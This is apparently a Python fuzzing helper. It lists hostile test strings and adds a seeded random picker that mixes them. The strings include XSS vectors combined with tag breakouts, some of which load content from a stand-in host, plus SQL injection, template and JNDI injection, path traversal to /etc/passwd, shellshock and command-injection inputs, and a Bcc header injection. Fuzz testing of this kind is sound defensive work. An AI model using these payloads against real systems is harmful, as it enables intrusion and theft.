"""Texts that have broken programs before, and a dice that always falls the same way."""

import random
from itertools import product

BREAKOUTS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "\\\"'`>", "</option></select>", '" ', "'/")
VECTORS = (
    "<script>hit()</script>", "<img src=x onerror=hit()>", "<svg onload=hit()>", "<svg/onload=hit()>", "<body onload=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'>", "<a href=javascript:hit()>x</a>", "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>", "<video><source onerror=hit()>", "<math><mi xlink:href=javascript:hit()>",
    "<object data=javascript:hit()>", "<embed src=javascript:hit()>", "<form action=javascript:hit()><button>",
    "<meta http-equiv=refresh content=0;url=javascript:hit()>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example>",
    "<style>@import'//evil.example';</style>", "onmouseover=hit() x=", "autofocus onfocus=hit() x=", "style=x:expression(hit()) x=",
    "<ScRiPt>hit()</sCrIpT>", "<script\t>hit()</script>", "<img\x0bsrc=x\x0bonerror=hit()>", "&lt;script&gt;hit()&lt;/script&gt;",
    "<scr<script>ipt>hit()</script>", "{{constructor.constructor('hit()')()}}", "${hit()}", "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:load=hit()>",
)
CHARACTERS = ("\0", "\r\nBcc: x@evil.example", "\x0b\x0c", "\x1b[31m", "\u202e\u2066", "\u200b\u200d\ufeff", "𠮷😀🀄", "e" + "\u0301" * 60,
              "\ufffe\uffff", "ﷺ" * 9, "‮‪﻿", "İıß", "一" * 400, " \t\n ", "　", "％＝＋")
NUMBERS = ("0", "-1", "1e309", "nan", "-inf", "9" * 40, "2147483648", "9223372036854775808", "-9223372036854775809", "1.5", "0x10",
           "١٢٣", "²", "1,000", "+1", " 1 ")
DATES = ("2026-02-30", "0000-00-00", "0001-01-01", "9999-12-31", "99999-01-01", "2026-13-01", "t", "-1", "-99999999", "-9999999999999",
         "+99999999", "20261399", "1123", "2026-11-26T25:61", "9999-12-31T23:59:59+14:00", "0001-01-01T00:00:00-14:00")
CODE = ("'; DROP TABLE office_record; --", "' OR '1'='1", "\\' OR 1=1 --", "{{7*7}}", "{% load x %}", "%s%s%n%x", "%(x)s", "${jndi:ldap://x}",
        "../../etc/passwd", "file:///etc/passwd", "http://127.0.0.1:1/", "() { :; }; x", "`id`", "|id", "<!--#exec cmd=id-->", "[]", "{}",
        '{"a":', "null", "true", "a:*&b|!c<->", "'a' & !'b' <2> c:*", "(((((", ")))))", "\\", "\\\\", "'", '"', "!", "&", "|", ":", "%", "_",
        "00000000-0000-0000-0000-000000000000", "p0", "u0", "d999999999999", "p1,p2", "@u1", "kind:x", "2026-11-26T09:00:00+08:00,1")


def payloads() -> list[str]:
    """Every vector behind every way out of an attribute, a tag or an element: more than 300."""
    return [way_out + vector for vector, way_out in product(VECTORS, BREAKOUTS)]


class Dice:
    """Chooses among the texts; the same seed gives the same game."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)

    def text(self) -> str:
        """One hostile text, sometimes two in one, sometimes far too long."""
        groups = (CHARACTERS, NUMBERS, DATES, CODE, payloads(), ("",))
        found = self.random.choice(self.random.choice(groups))
        if self.random.random() < 0.2:
            found += self.random.choice(self.random.choice(groups))
        if self.random.random() < 0.02:
            found = (found or "长") * self.random.choice((200, 5000))
        return found

    def raw(self) -> bytes:
        """The same as bytes, now and then no UTF-8 at all."""
        if self.random.random() < 0.03:
            return bytes(self.random.randrange(256) for _n in range(self.random.randrange(1, 40)))
        return self.text().encode("utf-8", "surrogatepass")

    def one_of(self, things: list) -> object:
        return self.random.choice(things)

    def often(self, share: float) -> bool:
        """Yes, in such a share of the throws."""
        return self.random.random() < share
